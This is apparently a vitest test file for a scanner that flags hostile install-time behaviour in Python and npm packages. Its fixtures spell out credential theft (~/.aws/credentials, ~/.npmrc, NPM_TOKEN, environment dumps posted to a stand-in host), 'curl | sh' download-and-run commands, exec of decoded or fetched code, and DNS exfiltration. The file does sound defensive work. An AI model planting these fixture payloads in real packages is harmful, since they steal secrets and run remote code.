import { describe, expect, it } from 'vitest';
import { npmPackage, sdist, wheel } from '../../../../test/builders/package.ts';
import type { PackageFiles } from '../../../../test/builders/package.ts';
import { weighFiles } from '../../../../test/builders/weigh-files.ts';

const U = 'https://host.invalid/c';

async function findings(name: string, bytes: Uint8Array): Promise<readonly string[]> {
  const weighed = await weighFiles({ [name]: bytes });
  return weighed.findings
    .filter(({ rule }) => rule.startsWith('install-behaviour/'))
    .map(({ rule, message }) => `${rule.slice(18)}: ${message}`);
}

const inWheel = (files: PackageFiles): Promise<readonly string[]> =>
  findings('colorkit-1.0-py3-none-any.whl', wheel({ files }));
const inSdist = (files: PackageFiles): Promise<readonly string[]> =>
  findings('colorkit-1.0.tar.gz', sdist(files));
const inNpm = (
  files: PackageFiles,
  scripts: Readonly<Record<string, string>> = {},
): Promise<readonly string[]> => findings('color-kit-1.0.0.tgz', npmPackage(files, { scripts }));

describe('checks/package/install-behaviour', () => {
  it('says what installing reports: machine-reported, secrets-sent', async () => {
    expect(
      await inSdist({
        'setup.py': `import socket, requests, setuptools\nrequests.get('${U}', params={'h': socket.gethostname()})\nsetuptools.setup()`,
      }),
    ).toEqual([
      'machine-reported: on install, which runs setup.py, requests.get sends socket.gethostname to host.invalid',
    ]);
    expect(
      await inNpm(
        { 'scripts/x.js': `require('https').get('${U}?t=' + process.env.NPM_TOKEN)` },
        { postinstall: 'node scripts/x.js' },
      ),
    ).toEqual([
      'secrets-sent: on install, through postinstall, https.get sends NPM_TOKEN to host.invalid',
    ]);
  });

  it('joins two files where a third, which takes nothing itself, hands on: split-theft', async () => {
    const inPython = (argument: string): Promise<readonly string[]> =>
      inWheel({
        'colorkit/__init__.py': `from .a import load\nfrom .b import send\nsend(${argument})\n`,
        'colorkit/a.py':
          'import os\ndef load():\n  return open(os.path.expanduser("~") + "/.aws/credentials").read()\n',
        'colorkit/b.py': `import requests\ndef send(x):\n  requests.post('${U}', data=x)\n`,
      });
    const inScript = (index: string): Promise<readonly string[]> =>
      inNpm({
        'index.js': index,
        'lib/grab.js':
          'const fs=require("fs"),os=require("os");exports.grab=()=>fs.readFileSync(os.homedir()+"/.npmrc","utf8");',
        'lib/post.js': `module.exports=b=>fetch("${U}",{method:"POST",body:b});`,
      });
    const loads = 'const {grab}=require("./lib/grab");const post=require("./lib/post");';

    expect(await inPython('load()')).toHaveLength(1);
    expect(await inPython('"hello"')).toEqual([]);
    expect(await inScript(`${loads}post(grab());`)).toHaveLength(1);
    expect(await inScript(`${loads}const d=grab();post("hello");`)).toEqual([]);
  });

  it('follows a setup.py into the modules it imports', async () => {
    const found = await inSdist({
      'setup.py':
        'import setuptools\nfrom colorkit import helper\nhelper.prepare()\nsetuptools.setup()',
      'colorkit/__init__.py': '',
      'colorkit/helper.py': `import os\ndef prepare():\n  os.system('curl -s ${U} | sh')`,
    });
    expect(found).toEqual([
      'called-by-itself: on install, which runs setup.py, setup.py calls prepare of colorkit/helper.py, which starts a command that fetches or decodes a program and runs it',
    ]);
  });

  it.each([
    ['from .core import go\ngo()', `import base64\ndef go(): exec(base64.b64decode(DATA))`],
    ['from . import core\ncore.go()', `import requests\ndef go(): exec(requests.get('${U}').text)`],
    [
      'import colorkit.core\ncolorkit.core.go()',
      `import requests, socket\ndef go(): requests.post('${U}', data=socket.gethostname())`,
    ],
  ])('reports called-by-itself for %j', async (init, core) => {
    const found = await inWheel({ 'colorkit/__init__.py': init, 'colorkit/core.py': core });
    expect(found.map((text) => text.split(':')[0])).toEqual(['called-by-itself']);
  });

  it.each([
    [
      'split-theft',
      {
        'colorkit/__init__.py': `import requests\nfrom .data import collect\ndef ping(): requests.post('${U}', json=collect())`,
        'colorkit/data.py': 'import os\ndef collect(): return dict(os.environ)',
      },
    ],
    [
      'split-theft',
      {
        'colorkit/__init__.py':
          'import os\nfrom .net import send\ndef ping(): send(dict(os.environ))',
        'colorkit/net.py': `import requests\ndef send(data): requests.post('${U}', json=data)`,
      },
    ],
    [
      'split-execution',
      {
        'colorkit/__init__.py': 'from .net import get\nexec(get())',
        'colorkit/net.py': `import requests\ndef get(): return requests.get('${U}').text`,
      },
    ],
  ])('reports %s in Python', async (rule, files) => {
    expect((await inWheel(files)).join('\n')).toContain(`${rule}:`);
  });

  it('follows the install script into the shell: hostile-script', async () => {
    const files = { 'setup.sh': `#!/bin/sh\ncurl -s ${U} | bash\n` };
    expect(await inNpm(files, { postinstall: 'sh ./setup.sh' })).toEqual([
      'hostile-script: on install, through postinstall, setup.sh runs and starts a command that fetches or decodes a program and runs it',
    ]);
    expect(await inNpm(files)).toEqual([]);
    const inside = {
      'setup.sh': 'x=$(whoami)\nnslookup "$x.host.invalid"\ncurl -d "$(env)" https://host.invalid',
    };
    expect((await inNpm(inside, { preinstall: 'bash setup.sh' })).length).toBeGreaterThan(0);
  });

  it.each([
    [
      'split-theft',
      {
        'index.js': `const { all } = require('./lib/env'); module.exports = () => fetch('${U}', { method: 'POST', body: all() })`,
        'lib/env.js': 'exports.all = () => JSON.stringify(process.env)',
      },
    ],
    [
      'split-theft',
      {
        'index.js': "const send = require('./lib/net'); send(process.env)",
        'lib/net.js': `function post(d) { fetch('${U}', { method: 'POST', body: JSON.stringify(d) }) }\nmodule.exports = post`,
      },
    ],
    [
      'called-by-itself',
      {
        'index.js': "require('./lib/x').run()",
        'lib/x.js': `exports.run = function run() { require('child_process').exec('curl ${U} | sh') }`,
      },
    ],
  ])('reports %s in JavaScript', async (rule, files) => {
    expect((await inNpm(files)).join('\n')).toContain(`${rule}:`);
  });

  it.each([
    [
      {
        'colorkit/__init__.py': 'from .client import Client',
        'colorkit/client.py': `import os, platform, requests\nclass Client:\n  def ask(self, q):\n    return requests.post('${U}', json={'q': q, 'os': platform.system()}, headers={'k': os.environ['API_KEY']})`,
      },
    ],
    [
      {
        'colorkit/__init__.py': 'from .telemetry import report',
        'colorkit/telemetry.py': `import socket, requests\ndef report(): requests.post('${U}', data=socket.gethostname())`,
      },
    ],
    [
      {
        'tests/test_x.py': `import socket, requests\nrequests.post('${U}', data=socket.gethostname())`,
      },
    ],
  ])('stays silent about %j', async (files) => {
    expect(await inWheel(files)).toEqual([]);
  });
});
